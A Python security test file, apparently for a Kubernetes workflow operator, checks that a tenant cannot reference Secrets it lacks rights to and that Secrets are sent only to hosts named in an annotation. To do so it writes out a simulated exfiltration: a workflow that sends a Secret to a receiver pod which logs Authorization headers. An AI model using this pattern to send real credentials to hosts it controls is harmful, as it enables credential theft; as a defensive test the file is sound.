"""Attacker: T1, a tenant that may create workflows and not get the namespace's Secrets.
Action: names a Secret in a workflow; and sends one that it may get to a host of its own.
Must not happen: the API server takes the workflow; a host that the owner did not name is asked.
"""

import json
import time
from typing import Any

from e2e.harness.fabric import NAMESPACE, Fabric, workflow
from e2e.harness.kube import until
from e2e.harness.reach import extra_policy
from e2e.harness.user import User

VALUE = "the-value-of-the-owner"
RECEIVER = """
import http.server
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        print("asked with", self.headers.get("Authorization"), flush=True)
        self.send_response(200); self.send_header("Content-Length", "2"); self.end_headers()
        self.wfile.write(b"ok")
    def log_message(self, *_): pass
http.server.HTTPServer(("", 8000), Handler).serve_forever()
"""


def sends(url: str) -> dict[str, Any]:
    """A workflow that sends the Secret ``api`` with one request."""
    call = {"url": url, "secret": "KEY", "retries": 0}
    return {
        "secrets": {"KEY": {"name": "api", "key": "key"}},
        "inputs": {"rows": {"rows": [{"a": time.time_ns() % 10**9}]}},
        "steps": [
            {"name": "ask", "uses": "http.request", "inputs": {"rows": "inputs.rows"}, "with": call}
        ],
    }


def test_one_without_the_right_to_get_a_secret_cannot_name_it(fabric: Fabric, owner: User) -> None:
    run, where = fabric.kube.run, f"--namespace={owner.namespace}"
    run("create", "secret", "generic", "api", where, f"--from-literal=key={VALUE}")
    run("create", "serviceaccount", "creator", where)
    account = f"--serviceaccount={owner.namespace}:creator"
    kinds = "--resource=flowmeshworkflows.flowmesh.dev"
    run("create", "role", "creates", where, "--verb=create,get", kinds)
    run("create", "rolebinding", "creates", where, "--role=creates", account)
    who = f"--as=system:serviceaccount:{owner.namespace}:creator"
    given = json.dumps(workflow(owner.namespace, "sends", sends("https://example.com/")))

    def created() -> tuple[int, str]:
        words = ("create", "--dry-run=server", where, who, "--filename=-")
        done = fabric.kube.program("kubectl", *words, given=given)
        return done.returncode, done.stderr

    until(lambda: "you may not get the Secrets of spec." in created()[1], "it is refused")
    run("create", "role", "gets", where, "--verb=get", "--resource=secrets", "--resource-name=api")
    run("create", "rolebinding", "gets", where, "--role=gets", account)
    until(lambda: created()[0] == 0, "one who may get the Secret may send it")


def test_a_host_outside_the_annotation_gets_nothing(
    fabric: Fabric, owner: User, attacked_pool: str
) -> None:
    run, where = fabric.kube.run, f"--namespace={owner.namespace}"
    role = ("--verb=get", "--resource=secrets", "--resource-name=api")
    run("create", "role", "operator-gets", where, *role)
    operator = f"--serviceaccount={NAMESPACE}:flowmesh-operator"
    run("create", "rolebinding", "operator-gets", where, "--role=operator-gets", operator)
    image = fabric.kube.get("fmwp", attacked_pool, f"--namespace={NAMESPACE}")["spec"]["image"]
    start = ("--image-pull-policy=IfNotPresent", "--command", "--", "python", "-c", RECEIVER)
    run("run", "receiver", where, f"--image={image}", *start)
    run("wait", "pod/receiver", where, "--for=condition=Ready", "--timeout=300s")
    address = fabric.kube.get("pod", "receiver", where)["status"]["podIP"]
    worker = {"podSelector": {"matchLabels": {"flowmesh.dev/pool": attacked_pool}}}
    anywhere = {**worker, "policyTypes": ["Egress"], "egress": [{}]}
    with extra_policy(fabric.kube, "to-receiver", anywhere):
        # The network lets it through. Its owner named another host, so the worker does not even
        # connect to this one.
        run("annotate", "secret", "api", where, "flowmesh.dev/hosts=api.example.com")
        fabric.submit(owner.namespace, "astray", sends(f"http://{address}:8000/"))
        status = fabric.finished(owner.namespace, "astray", 180)
        assert status["phase"] == "Failed"
        assert f"may not be sent to {address}" in json.dumps(status)
        assert "asked" not in run("logs", "receiver", where)
        run("annotate", "secret", "api", where, "--overwrite", f"flowmesh.dev/hosts={address}")
        fabric.submit(owner.namespace, "named", sends(f"http://{address}:8000/"))
        fabric.completed(owner.namespace, "named")
        assert f"asked with Bearer {VALUE}" in run("logs", "receiver", where)
